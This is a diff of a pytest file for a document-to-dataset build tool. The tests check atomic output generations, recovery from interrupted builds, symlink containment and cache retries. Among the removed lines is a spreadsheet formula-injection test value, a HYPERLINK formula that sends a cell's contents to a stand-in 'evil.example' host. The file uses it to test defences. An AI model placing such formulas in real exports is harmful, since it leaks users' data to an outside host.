@@ -23,12 +23,10 @@ from openpyxl import load_workbook
 
 from tests import generate as g
 from tests.render_html import write_html
+from tests.zoo import GBK_NAME, HUGE, HYPERLINK, formula_html, huge_count_html
 
 REPO = Path(__file__).resolve().parents[1]
 FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
-GBK_NAME = "报告2022".encode("gbk") + b".docx"   # what unzipping a Windows zip gives
-HUGE = "99999999999999999999999"
-HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&D2,"x")'
 
 
 def ogi(*args, check=False, env=None):
@@ -48,29 +46,6 @@ def _number_field(truth: g.Truth, prefix: str) -> str:
     return next(f for f, k in truth.kinds.items() if f.startswith(prefix) and k == "number")
 
 
-def hostile_html(path: Path, seed: int = 5) -> g.Truth:
-    """A web page report whose agency, section text and cells carry formulas and control characters,
-    and one table-3 count printed off by one (so the audit lists it, raw cells included)."""
-    truth = _truth(seed, agency="=2*21人民政府")
-    wrong = _number_field(truth, "t3.new.")
-    truth.raw[wrong] = str(int(truth.values[wrong]) + 1)
-    text = _number_field(truth, "t3.granted.")
-    truth.raw[text] = "=1+2"
-    write_html(truth, path, rng=random.Random(seed))
-    page = path.read_text(encoding="utf-8")
-    page = page.replace("加强培训，提升工作质量。", f"{HYPERLINK.replace('&', '&amp;')}控制\x01字符\x1f。")
-    path.write_text(page, encoding="utf-8")
-    return truth
-
-
-def huge_count_html(path: Path, seed: int = 6) -> tuple[g.Truth, str]:
-    truth = _truth(seed)
-    fid = _number_field(truth, "t3.new.")
-    truth.raw[fid] = HUGE
-    write_html(truth, path, rng=random.Random(seed))
-    return truth, fid
-
-
 @pytest.fixture(scope="module")
 def hostile_run(tmp_path_factory):
     root = tmp_path_factory.mktemp("hostile")
@@ -79,8 +54,8 @@ def hostile_run(tmp_path_factory):
     good = _truth(7)
     g.write_docx(good, src / "good.docx", rng=random.Random(7))
     g.write_docx(_truth(8), os.fsdecode(os.path.join(os.fsencode(src), GBK_NAME)), rng=random.Random(8))
-    hostile = hostile_html(src / "hostile.html")
-    huge, huge_field = huge_count_html(src / "huge.html")
+    hostile = formula_html(src / "hostile.html", 5)
+    huge, huge_field = huge_count_html(src / "huge.html", 6)
     out = root / "out"
     proc = ogi("build", src, "-o", out, "-j", "0", "-q")
     return {"root": root, "src": src, "out": out, "proc": proc, "hostile": hostile, "huge": huge,
@@ -437,3 +412,229 @@ def test_hidden_span_inside_an_html_cell_is_not_a_digit(tmp_path):
     truth, path = _html_with(tmp_path, 24, wrapped)
     report = process(str(path))
     assert report.values[holder["fid"]].value == truth.values[holder["fid"]]
+
+
+# ---------------------------------------------------------------- one generation, never stale
+
+def _outputs(out: Path) -> dict[str, str]:
+    """sha256 of every output file in OUT (not the cache, lock or manifest)."""
+    import hashlib
+
+    skip = ("cache.sqlite", ".ogi-build.lock", "manifest.json")
+    return {p.name: hashlib.sha256(p.read_bytes()).hexdigest() for p in sorted(out.iterdir())
+            if p.is_file() and not p.name.startswith(skip)}
+
+
+def _one_generation(out: Path) -> dict:
+    """OUT's files are exactly those its manifest lists, byte for byte; returns the manifest."""
+    import json
+
+    manifest = json.loads((out / "manifest.json").read_text())
+    files = {n: i["sha256"] for n, i in manifest["files"].items() if "sha256" in i}
+    assert _outputs(out) == files
+    return manifest
+
+
+def _leftovers(out: Path) -> list[str]:
+    return sorted(p.name for p in out.iterdir() if p.name.endswith(".tmp") or p.name.startswith(".staging"))
+
+
+@pytest.fixture(scope="module")
+def built(tmp_path_factory):
+    root = tmp_path_factory.mktemp("generations")
+    src = root / "in"
+    src.mkdir()
+    for seed in (31, 32):
+        g.write_docx(_truth(seed), src / f"r{seed}.docx", rng=random.Random(seed))
+    out = root / "out"
+    env = dict(os.environ, OGI_PIPELINE_VERSION="trust-generations")
+    proc = ogi("build", src, "-o", out, "-j", "1", "-q", env=env)
+    assert proc.returncode == 0, proc.stderr[-2000:]
+    return {"root": root, "src": src, "out": out, "env": env, "manifest": _one_generation(out)}
+
+
+def test_build_of_a_missing_folder_leaves_out_byte_identical(built, tmp_path):
+    import shutil
+
+    out = tmp_path / "out"
+    shutil.copytree(built["out"], out)
+    before = {p.name: p.read_bytes() for p in out.iterdir()}
+    proc = ogi("build", "/nonexistent", "-o", out, env=built["env"])
+    assert proc.returncode == 2 and "no such file or folder" in proc.stderr
+    assert {p.name: p.read_bytes() for p in out.iterdir()} == before
+
+
+def test_an_empty_input_never_prunes_the_cache_without_prune(built, tmp_path):
+    import shutil
+
+    out = tmp_path / "out"
+    shutil.copytree(built["out"], out)
+    before = _outputs(out)
+    empty = tmp_path / "unmounted"
+    empty.mkdir()
+    proc = ogi("build", empty, "-o", out, env=built["env"])
+    assert proc.returncode == 2 and "holds 2 documents" in proc.stderr and "--prune" in proc.stderr
+    assert _outputs(out) == before
+    proc = ogi("build", empty, "-o", out, "--prune", "-q", env=built["env"])
+    assert proc.returncode == 0 and "read 0, failed 0" in proc.stdout
+
+
+def test_a_changed_output_file_is_rewritten_not_trusted(built, tmp_path):
+    """The up-to-date check compares the manifest, not whether the files exist."""
+    import shutil
+
+    out = tmp_path / "out"
+    shutil.copytree(built["out"], out, copy_function=shutil.copy2)
+    stale = pd.read_parquet(out / "reports.parquet").iloc[:1]
+    stale.to_parquet(out / "reports.parquet", index=False)  # what a crash in the write phase left
+    proc = ogi("build", built["src"], "-o", out, "-q", env=built["env"])
+    assert proc.returncode == 0
+    assert len(pd.read_parquet(out / "reports.parquet")) == 2
+    _one_generation(out)
+
+
+def _wait_for(predicate, seconds: float = 120) -> bool:
+    import time
+
+    end = time.monotonic() + seconds
+    while time.monotonic() < end:
+        if predicate():
+            return True
+        time.sleep(0.005)
+    return False
+
+
+def _staged(out: Path, name: str | None = None):
+    def check():
+        staging = out / ".staging"
+        return staging.is_dir() and (any(staging.iterdir()) if name is None else (staging / name).exists())
+    return check
+
+
+INTERRUPTIONS = [
+    ("reading", "SIGTERM"), ("reading", "SIGINT"), ("writing", "SIGTERM"), ("writing", "SIGINT"),
+    ("audit", "SIGTERM"), ("audit", "SIGINT"),
+]
+
+
+@pytest.mark.parametrize("phase, signame", [
+    pytest.param(*case, marks=() if case == ("writing", "SIGTERM") else pytest.mark.slow) for case in INTERRUPTIONS])
+def test_interrupted_build_leaves_the_old_or_the_new_generation(built, tmp_path, phase, signame):
+    import shutil
+    import signal as signals
+
+    out = tmp_path / "out"
+    shutil.copytree(built["out"], out, copy_function=shutil.copy2)
+    src = tmp_path / "in"
+    shutil.copytree(built["src"], src)
+    g.write_docx(_truth(33), src / "r33.docx", rng=random.Random(33))
+    from tests import hooks
+
+    env = hooks.env(built["env"], **({"OGI_TEST_DELAY_S": "5"} if phase == "reading" else {}))
+    proc = subprocess.Popen([sys.executable, "-m", "ogi.cli", "build", str(src), "-o", str(out), "-j", "1", "-q"],
+                            cwd=REPO, env=env, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
+    import time
+
+    started = time.monotonic()
+    # reading: each new document takes 5 s more (tests/hooks), so 3 s in is mid-read
+    ready = {"reading": lambda: time.monotonic() - started > 3,
+             "writing": _staged(out), "audit": _staged(out, "findings.parquet")}[phase]
+    assert _wait_for(lambda: ready() or proc.poll() is not None), "the build never reached " + phase
+    assert proc.poll() is None, "the build ended before it could be interrupted"
+    proc.send_signal(getattr(signals, signame))
+    stdout, stderr = proc.communicate(timeout=120)
+    assert proc.returncode == {"SIGTERM": 143, "SIGINT": 130}[signame], stderr[-2000:]
+    assert "Traceback" not in stderr and len(stderr.strip().splitlines()) == 1, stderr
+    manifest = _one_generation(out)
+    assert manifest["state"] == built["manifest"]["state"]  # interrupted before the swap: the old one whole
+    proc = ogi("build", src, "-o", out, "-j", "1", "-q", env=built["env"])
+    assert proc.returncode == 0 and "read 3" in proc.stdout
+    assert _leftovers(out) == []
+    assert _one_generation(out)["state"] != built["manifest"]["state"]
+
+
+# ---------------------------------------------------------------- paths
+
+def test_out_inside_the_input_is_never_read_as_input(tmp_path):
+    src = tmp_path / "in"
+    src.mkdir()
+    g.write_docx(_truth(41), src / "r.docx", rng=random.Random(41))
+    env = dict(os.environ, OGI_PIPELINE_VERSION="trust-paths")
+    for _ in range(2):  # the second run finds OUT (audit.html, reports.csv …) inside its input
+        proc = ogi("build", src, "-o", src / "out", "-j", "0", "-q", env=env)
+        assert proc.returncode == 0 and "read 1, failed 0" in proc.stdout, proc.stdout + proc.stderr
+    other = tmp_path / "other_out"   # an earlier OUT copied into the input: recognised by its manifest
+    proc = ogi("build", src, "-o", other, "-j", "0", "-q", env=env)
+    assert "read 1, failed 0" in proc.stdout
+
+
+def test_symlinked_file_outside_the_input_is_not_followed(tmp_path):
+    src = tmp_path / "in"
+    src.mkdir()
+    g.write_docx(_truth(42), src / "r.docx", rng=random.Random(42))
+    private = tmp_path / "private"
+    private.mkdir()
+    g.write_docx(_truth(43, agency="保密单位"), private / "secret.docx", rng=random.Random(43))
+    os.symlink(private / "secret.docx", src / "published.docx")
+    os.symlink("r.docx", src / "inside-link.docx")  # a link within the input is a file like any other
+    out = tmp_path / "out"
+    proc = ogi("build", src, "-o", out, "-j", "0", "-q")
+    assert proc.returncode == 0
+    errors = pd.read_csv(out / "errors.csv", encoding="utf-8-sig")
+    outside = errors[errors["source"] == str(src / "published.docx")]
+    assert outside["reason"].str.contains("outside the input").tolist() == [True]
+    assert "保密单位" not in set(pd.read_parquet(out / "reports.parquet")["agency"])
+
+
+def test_failures_of_the_machine_are_retried_and_content_failures_stay_cached(tmp_path):
+    from ogi.cache import Cache, Stat
+    from ogi.pipeline import Failure
+
+    files = {}
+    for stage in ("timeout", "memory", "crash", "read", "normalize"):
+        path = tmp_path / f"{stage}.docx"
+        path.write_bytes(b"x")
+        files[stage] = str(path)
+    with Cache(tmp_path / "cache.sqlite", version="v") as cache:
+        for stage, path in files.items():
+            cache.put(path, Stat.of(path), Failure(path, stage, "why"))
+        assert set(cache.stale(files.values())) == {files[s] for s in ("timeout", "memory", "crash")}
+        assert set(cache.stale(files.values(), retry_failed=True)) == set(files.values())
+
+
+def test_unwritable_out_and_missing_audit_folder_end_in_one_line(tmp_path):
+    from ogi.data import SAMPLES_DIR
+
+    a_file = tmp_path / "afile"
+    a_file.write_text("x")
+    for out in (a_file, a_file / "sub"):
+        proc = ogi("build", SAMPLES_DIR, "-o", out, "-j", "0", "-q")
+        assert proc.returncode == 3 and len(proc.stderr.strip().splitlines()) == 1, proc.stderr
+        assert "Traceback" not in proc.stderr
+    proc = ogi("audit", tmp_path / "missing")
+    assert proc.returncode == 2 and "no dataset" in proc.stderr and "Traceback" not in proc.stderr
+
+
+def _hang_on_b(path: str):
+    """A worker that never finishes the document named b (run_local's `worker` injection)."""
+    import time
+
+    from ogi.batch import process_one
+
+    if os.path.basename(path).startswith("b"):
+        time.sleep(3600)
+    return process_one(path)
+
+
+def test_run_local_takes_an_injected_worker_and_stops_a_hanging_one(tmp_path):
+    import shutil
+
+    from ogi.batch import run_local
+    from ogi.data import SAMPLES_DIR
+
+    for name, sample in (("a.docx", "gen-2021-basic.docx"), ("b.docx", "gen-2019-basic.docx")):
+        shutil.copyfile(SAMPLES_DIR / sample, tmp_path / name)
+    done = {os.path.basename(d.source): d.result for d in
+            run_local([str(tmp_path / "a.docx"), str(tmp_path / "b.docx")], 2, timeout=8, worker=_hang_on_b)}
+    assert getattr(done["b.docx"], "stage", None) == "timeout"
+    assert not hasattr(done["a.docx"], "stage")
